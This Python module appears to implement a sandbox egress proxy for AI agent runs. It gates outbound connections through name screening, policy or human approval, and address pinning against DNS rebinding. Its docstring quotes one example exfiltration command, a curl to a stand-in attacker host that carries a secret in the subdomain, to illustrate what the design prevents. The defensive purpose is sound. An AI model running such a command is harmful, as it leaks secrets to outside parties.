"""The egress proxy: the only way out of a run's sandbox, one per run, on a Unix socket.

Inside the floor there is no network; the run's processes reach this proxy through its
socket bridged to `127.0.0.1:<port>` (socat) and `HTTP_PROXY`/`HTTPS_PROXY`. It speaks
HTTP/1.1 proxy: `CONNECT host:port` (a tunnel, for HTTPS and anything else over TCP) and
absolute-form requests (`GET http://host/path`, forwarded with `Connection: close` to the
server, the client's keep-alive kept). For each target it:

1. reads the host one way only (`canonical_host`: no NUL, no `0x7f.1`, no non-ASCII), 400 otherwise;
2. lets the agent's own model API through without asking (`model_hosts`);
3. asks `screen(host, port)` first, when given: a refusal known from the name is answered
   before any DNS lookup, so the name never reaches a DNS server;
4. with `names_first`, calls `decide(host, port, ())` before any lookup: the name alone is
   judged (and a person asked, where the policy asks), so a name nobody allowed never
   reaches a DNS server (`curl https://$SECRET.attacker.example` leaks nothing);
5. resolves the name once, on the host, and calls `decide(host, port, addresses)` — which
   may wait for a person; the caller bounds it with its own deadline;
6. connects to exactly the addresses it handed `decide` (numeric, never resolved again),
   so a name that changes its answer between the check and the connection (DNS rebinding)
   cannot lead anywhere unchecked.

A refusal is `403` with the reason in the body and in `X-Gatehouse-Refused`; a malformed
request `400` (or `407`, `408`, `431`, `501`, `505`), never a crash. `counts` holds the
connections by outcome; `open_connections()` lists the live ones, `close_connections()`
ends them (the run's end).
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import hmac
import itertools
import logging
import os
import socket
import stat
import time
from collections.abc import Awaitable, Callable, Iterable
from dataclasses import dataclass, field, replace
from pathlib import Path
from types import TracebackType

from approvals.policy.hosts import parse_address
from approvals.policy.network import canonical_host

from .http1 import (
    BadMessage,
    Head,
    copy_body,
    error_response,
    forwarded_headers,
    parse_absolute,
    parse_authority,
    printable,
    read_head,
    request_framing,
    response_framing,
    serialize,
)
from .streams import abort_if_failed, hung_up, linger, send, splice

log = logging.getLogger(__name__)

# decide(host, port, addresses) -> (allowed, reason): the caller's policy and approvals
Decide = Callable[[str, int, tuple[str, ...]], Awaitable[tuple[bool, str]]]
# screen(host, port) -> a reason to refuse before resolving, or None
Screen = Callable[[str, int], str | None]
Resolve = Callable[[str, int], Awaitable[list[str]]]


@dataclass(frozen=True)
class EgressLimits:
    header_timeout: float = 10.0  # a request head must arrive whole within this (slowloris)
    idle_timeout: float = 60.0  # between requests on a kept-alive connection
    resolve_timeout: float = 10.0
    connect_timeout: float = 10.0
    decide_timeout: float | None = None  # a safety net only: the caller's deadline governs
    max_head: int = 64 * 1024  # bytes of a request or response head
    max_headers: int = 100
    max_line: int = 8 * 1024  # a chunk-size or trailer line
    max_connections: int = 256


@dataclass
class EgressCounts:
    connections: int = 0  # client connections accepted
    model: int = 0  # targets that were the agent's model API (allowed unasked)
    asked: int = 0  # targets `decide` was asked about
    allowed: int = 0  # ... and allowed
    refused: int = 0  # 403: screened out, refused by `decide`, or no decision in time
    malformed: int = 0  # 400, 407, 408, 431, 501, 505
    failed: int = 0  # allowed, but the name did not resolve or the server could not be reached
    abandoned: int = 0  # the client hung up while `decide` was pending


@dataclass
class OpenConnection:
    id: int
    state: str  # reading | deciding | connecting | tunnel | forwarding
    host: str | None = None
    port: int | None = None
    address: str | None = None  # the address connected to
    since: float = field(default_factory=time.monotonic)


class Refused(Exception):
    def __init__(self, status: int, reason: str, *, count: str = "refused",
                 extra: Iterable[tuple[str, str]] = ()) -> None:
        super().__init__(reason)
        self.status, self.reason, self.count, self.extra = status, reason, count, tuple(extra)


@dataclass
class _Client:
    info: OpenConnection
    writer: asyncio.StreamWriter
    upstream: asyncio.StreamWriter | None = None
    responded: bool = False  # a response head went out: an error can only close the connection
    allowed: dict[tuple[str, int], tuple[str, ...]] = field(default_factory=dict)  # targets decided on it


def proxy_environment(port: int, *, token: str | None = None,
                      no_proxy: Iterable[str] = ("localhost", "127.0.0.1", "::1")) -> dict[str, str]:
    """The variables a process inside the floor needs to use the proxy bridged to
    `127.0.0.1:<port>` there, both spellings (tools read one or the other).

    `no_proxy` keeps the sandbox's own loopback (a server the run starts for its tests) off
    the proxy. A model API on the *host's* loopback (the test fake model servers, a local
    gateway) is then unreachable, since 127.0.0.1 inside is the sandbox's own: pass
    `no_proxy=()` for such runs, and the run's own local servers go through the proxy too
    (refused there, unless listed)."""
    credentials = f"run:{token}@" if token else ""
    url = f"http://{credentials}127.0.0.1:{port}"
    env = {"HTTP_PROXY": url, "HTTPS_PROXY": url, "http_proxy": url, "https_proxy": url}
    local = ",".join(no_proxy)
    return env | ({"NO_PROXY": local, "no_proxy": local} if local else {})


async def system_resolve(host: str, port: int) -> list[str]:
    infos = await asyncio.get_running_loop().getaddrinfo(host, port, type=socket.SOCK_STREAM)
    return list(dict.fromkeys(str(info[4][0]) for info in infos))


class EgressProxy:
    """One run's egress proxy; `async with EgressProxy(path, decide, ...) as proxy:`."""

    def __init__(self, socket_path: str | os.PathLike[str], decide: Decide, *,
                 model_hosts: Iterable[tuple[str, int]] = (), screen: Screen | None = None,
                 token: str | None = None, limits: EgressLimits | None = None,
                 resolve: Resolve = system_resolve, names_first: bool = False) -> None:
        self.socket_path = Path(socket_path)
        self.names_first = names_first
        self.limits = limits or EgressLimits()
        self.counts = EgressCounts()
        self._decide, self._screen, self._token, self._resolve = decide, screen, token, resolve
        self._model = frozenset((canonical_host(host) or host, int(port)) for host, port in model_hosts)
        self._open: dict[int, _Client] = {}
        self._tasks: set[asyncio.Task] = set()  # every connection's, refused ones included
        self._ids = itertools.count(1)
        self._server: asyncio.AbstractServer | None = None

    # ---- lifecycle ---------------------------------------------------------------------------

    async def start(self) -> None:
        """Listen on `socket_path` (replacing a stale socket there), readable by this user only."""
        with contextlib.suppress(FileNotFoundError):
            if stat.S_ISSOCK(self.socket_path.lstat().st_mode):
                self.socket_path.unlink()
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            sock.bind(str(self.socket_path))
            os.chmod(self.socket_path, 0o600)  # before listen(): nobody connects in between
            sock.listen(128)
            self._server = await asyncio.start_unix_server(self._serve, sock=sock, limit=self.limits.max_head)
        except BaseException:
            sock.close()
            raise

    async def stop(self) -> None:
        """Stop listening, end every open connection, remove the socket."""
        if self._server is None:
            return
        self._server.close()
        await self.close_connections()
        await self._server.wait_closed()
        self._server = None
        with contextlib.suppress(FileNotFoundError):
            self.socket_path.unlink()

    async def __aenter__(self) -> EgressProxy:
        await self.start()
        return self

    async def __aexit__(self, kind: type[BaseException] | None, exc: BaseException | None,
                        tb: TracebackType | None) -> None:
        await self.stop()

    def allow_model_hosts(self, hosts: Iterable[tuple[str, int]]) -> None:
        """Also let these through without asking (the model API of an agent started later)."""
        self._model = self._model | frozenset((canonical_host(host) or host, int(port)) for host, port in hosts)

    def open_connections(self) -> list[OpenConnection]:
        return [replace(client.info) for client in self._open.values()]

    async def close_connections(self) -> int:
        """End every open connection (and the decisions they wait for); how many there were."""
        count = len(self._open)
        tasks = [task for task in self._tasks if task is not asyncio.current_task()]
        for task in tasks:
            task.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
        return count

    # ---- one client connection ---------------------------------------------------------------

    async def _serve(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        task = asyncio.current_task()
        assert task is not None
        self._tasks.add(task)
        try:
            if len(self._open) >= self.limits.max_connections:
                await send(writer, error_response(503, "too many open connections through this run's proxy"))
                await linger(reader, writer)
            else:
                await self._serve_client(reader, writer)
        except asyncio.CancelledError:
            # close_connections(): this connection's end is the whole point. Ending the task
            # normally keeps asyncio's stream callback from logging the cancellation as an error.
            pass
        finally:
            self._tasks.discard(task)
            writer.close()

    async def _serve_client(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        client = _Client(OpenConnection(next(self._ids), "reading"), writer)
        self._open[client.info.id] = client
        self.counts.connections += 1
        try:
            if await self._converse(client, reader):
                await linger(reader, writer)
        except (ConnectionError, asyncio.IncompleteReadError, BadMessage, TimeoutError):
            pass  # the peer went away or broke the message mid-way: nothing to answer
        except Exception:  # never let one connection take the proxy down
            log.exception("egress proxy: connection %s failed", client.info.id)
        finally:
            del self._open[client.info.id]
            if client.upstream is not None:
                client.upstream.close()

    async def _converse(self, client: _Client, reader: asyncio.StreamReader) -> bool:
        """Serve requests until one ends the connection; whether it ended with an error answer."""
        first = True
        while True:
            info = client.info
            info.state, info.host, info.port, info.address = "reading", None, None, None
            try:
                head = await self._next_head(reader, first)
                if head is None:
                    return False
                keep = await self._handle(client, head, reader)
            except BadMessage as exc:
                return await self._refuse(client, Refused(exc.status, exc.reason, count="malformed"))
            except Refused as exc:
                return await self._refuse(client, exc)
            if not keep:
                return False
            first = False

    async def _next_head(self, reader: asyncio.StreamReader, first: bool) -> Head | None:
        """The next request head; None when the client is done (closed, or idle too long)."""
        timeout = self.limits.header_timeout if first else self.limits.idle_timeout
        try:
            return await asyncio.wait_for(read_head(reader, max_headers=self.limits.max_headers, request=True), timeout)
        except TimeoutError:
            if not first:
                return None
            raise Refused(408, f"the request head did not arrive within {timeout:g} s", count="malformed") from None

    async def _handle(self, client: _Client, head: Head, reader: asyncio.StreamReader) -> bool:
        """Serve one request; whether the connection may carry another."""
        self._authorize(head)
        method, target, _version = head.start
        if any(c <= " " or c == "\x7f" for c in target):
            raise Refused(400, "a control character in the request target", count="malformed")
        if method == "CONNECT":
            host, port = parse_authority(target, None)
            addresses = await self._admit(client, reader, host, port)
            await self._tunnel(client, reader, port, addresses)
            return False
        host, port, path = parse_absolute(target)
        addresses = await self._admit(client, reader, host, port)
        return await self._forward(client, head, reader, path, addresses)

    def _authorize(self, head: Head) -> None:
        if self._token is None:
            return
        for value in head.values("proxy-authorization"):
            scheme, _, credentials = value.partition(" ")
            try:
                decoded = base64.b64decode(credentials.strip(), validate=True).decode("utf-8")
            except (ValueError, UnicodeDecodeError):
                continue
            password = decoded.partition(":")[2].encode()
            if scheme.lower() == "basic" and hmac.compare_digest(password, self._token.encode()):
                return
        raise Refused(407, "this proxy needs the run's credentials (they are in HTTP_PROXY)", count="malformed",
                      extra=[("Proxy-Authenticate", 'Basic realm="gatehouse"')])

    async def _refuse(self, client: _Client, refusal: Refused) -> bool:
        """Count and answer a refusal; whether an answer was sent."""
        setattr(self.counts, refusal.count, getattr(self.counts, refusal.count) + 1)
        info = client.info
        target = f"{info.host}:{info.port}" if info.host else "the request"
        log.info("egress %s %s: %s", refusal.status, printable(target), printable(refusal.reason))
        if client.responded:
            return False  # mid-response: closing is the only answer left
        message = (f"Gatehouse refused the connection to {target}: {refusal.reason}" if refusal.status == 403
                   else f"Gatehouse's proxy could not serve {target}: {refusal.reason}")
        extra = [*refusal.extra, ("X-Gatehouse-Refused", printable(refusal.reason))]
        await send(client.writer, error_response(refusal.status, message, extra))
        return True

    # ---- deciding ----------------------------------------------------------------------------

    async def _admit(self, client: _Client, reader: asyncio.StreamReader, host: str, port: int) -> tuple[str, ...]:
        """The addresses the connection to `host:port` may use (Refused otherwise)."""
        canonical = canonical_host(host)
        if canonical is None:
            raise Refused(400, f"{printable(host, 80)!r} is not a host name or an IP address", count="malformed")
        client.info.host, client.info.port, client.info.address = canonical, port, None
        known = client.allowed.get((canonical, port))
        if known is not None:
            return known
        if (canonical, port) in self._model:
            addresses = await self._addresses(canonical, port)
            self.counts.model += 1
        else:
            reason = self._screen(canonical, port) if self._screen is not None else None
            if reason is not None:
                raise Refused(403, reason)
            client.info.state = "deciding"
            self.counts.asked += 1
            if self.names_first and parse_address(canonical) is None:
                allowed, reason = await self._ask(reader, canonical, port, ())
                if not allowed:
                    raise Refused(403, reason)
            addresses = await self._addresses(canonical, port)
            allowed, reason = await self._ask(reader, canonical, port, addresses)
            if not allowed:
                raise Refused(403, reason)
            self.counts.allowed += 1
        client.allowed[(canonical, port)] = addresses
        return addresses

    async def _addresses(self, host: str, port: int) -> tuple[str, ...]:
        if parse_address(host) is not None:
            return (host,)
        try:
            found = await asyncio.wait_for(self._resolve(host, port), self.limits.resolve_timeout)
        except TimeoutError:
            raise Refused(504, f"resolving {host} took longer than {self.limits.resolve_timeout:g} s",
                          count="failed") from None
        except (OSError, UnicodeError) as exc:
            raise Refused(502, f"cannot resolve {host}: {printable(str(exc), 120)}", count="failed") from None
        if not found:
            raise Refused(502, f"{host} has no address", count="failed")
        return tuple(found)

    async def _ask(self, reader: asyncio.StreamReader, host: str, port: int,
                   addresses: tuple[str, ...]) -> tuple[bool, str]:
        """`decide`'s answer. A client that hangs up meanwhile cancels it (nobody waits for the
        answer any more: the caller's callback sees CancelledError and can withdraw its question)."""
        decision = asyncio.ensure_future(self._decide(host, port, addresses))
        gone = asyncio.ensure_future(hung_up(reader))
        try:
            done, _ = await asyncio.wait({decision, gone}, timeout=self.limits.decide_timeout,
                                         return_when=asyncio.FIRST_COMPLETED)
        finally:
            gone.cancel()
            if not decision.done():
                decision.cancel()
                await asyncio.gather(decision, return_exceptions=True)
        if decision not in done:
            if gone in done:
                self.counts.abandoned += 1
                raise ConnectionResetError("the client left while the decision was pending")
            return False, f"no decision within {self.limits.decide_timeout:g} s"
        try:
            allowed, reason = decision.result()
        except Exception:
            log.exception("egress proxy: deciding %s:%s failed", host, port)
            return False, "the decision could not be made"
        return allowed is True, str(reason) or ("allowed" if allowed is True else "refused")

    # ---- connecting and relaying ---------------------------------------------------------------

    async def _connect(self, client: _Client, port: int, addresses: tuple[str, ...]
                       ) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """A connection to the first of `addresses` that answers: numeric only, never resolved again."""
        client.info.state = "connecting"
        errors = []
        for address in addresses:
            try:
                upstream = await asyncio.wait_for(asyncio.open_connection(
                    address, port, limit=self.limits.max_head, flags=socket.AI_NUMERICHOST), self.limits.connect_timeout)
            except (OSError, TimeoutError) as exc:
                errors.append(f"{address}: {printable(str(exc) or type(exc).__name__, 80)}")
                continue
            client.upstream, client.info.address = upstream[1], address
            return upstream
        raise Refused(502, f"cannot connect ({'; '.join(errors)})", count="failed")

    async def _tunnel(self, client: _Client, reader: asyncio.StreamReader, port: int,
                      addresses: tuple[str, ...]) -> None:
        up_reader, up_writer = await self._connect(client, port, addresses)
        client.responded = True
        await send(client.writer, b"HTTP/1.1 200 Connection established\r\n\r\n")
        client.info.state = "tunnel"
        await splice(reader, client.writer, up_reader, up_writer)

    async def _forward(self, client: _Client, head: Head, reader: asyncio.StreamReader, path: str,
                       addresses: tuple[str, ...]) -> bool:
        method, _target, version = head.start
        framing = request_framing(head)
        wants = head.tokens("connection") | head.tokens("proxy-connection")
        keep = "keep-alive" in wants if version == "HTTP/1.0" else "close" not in wants
        host, port = client.info.host or "", client.info.port or 80
        authority = (f"[{host}]" if ":" in host else host) + ("" if port == 80 else f":{port}")
        up_reader, up_writer = await self._connect(client, port, addresses)
        client.info.state = "forwarding"
        # the URL's authority is the Host (RFC 9112 §3.2.2): a second Host cannot point elsewhere
        headers = [("Host", authority), *((n, v) for n, v in forwarded_headers(head) if n.lower() != "host"),
                   ("Connection", "close")]
        await send(up_writer, serialize(f"{method} {path} HTTP/1.1", headers))
        upload = asyncio.create_task(copy_body(reader, up_writer, framing, max_line=self.limits.max_line))
        # a broken request body ends the exchange: the server would wait for the rest forever
        upload.add_done_callback(lambda task: abort_if_failed(task, up_writer))
        try:
            keep = await self._relay_response(client, up_reader, method, keep)
            # the answer can come before the upload task has seen its last write through
            await asyncio.wait({upload}, timeout=1.0)
        finally:
            if not upload.done():
                upload.cancel()  # the server answered before reading the whole body
                keep = False
            elif upload.cancelled() or upload.exception() is not None:
                keep = False
            up_writer.close()
            client.upstream = None
        return keep

    async def _relay_response(self, client: _Client, up_reader: asyncio.StreamReader, method: str,
                              keep: bool) -> bool:
        while True:
            try:
                head = await read_head(up_reader, max_headers=self.limits.max_headers, request=False)
            except BadMessage as exc:
                raise Refused(502, f"the server's answer is malformed ({exc.reason})", count="failed") from None
            if head is None:
                raise Refused(502, "the server closed the connection without answering", count="failed")
            status = int(head.start[1])
            if status == 101:
                raise Refused(502, "the server switched protocols, which the proxy does not relay", count="failed")
            framing = response_framing(head, method)
            final = status >= 200
            keep = keep and framing.kind != "close"
            connection = [] if not final else [("Connection", "keep-alive" if keep else "close")]
            client.responded = True
            await send(client.writer, serialize(f"HTTP/1.1 {status} {printable(head.start[2], 100)}",
                                                 [*forwarded_headers(head), *connection]))
            if final:
                await copy_body(up_reader, client.writer, framing, max_line=self.limits.max_line)
                return keep
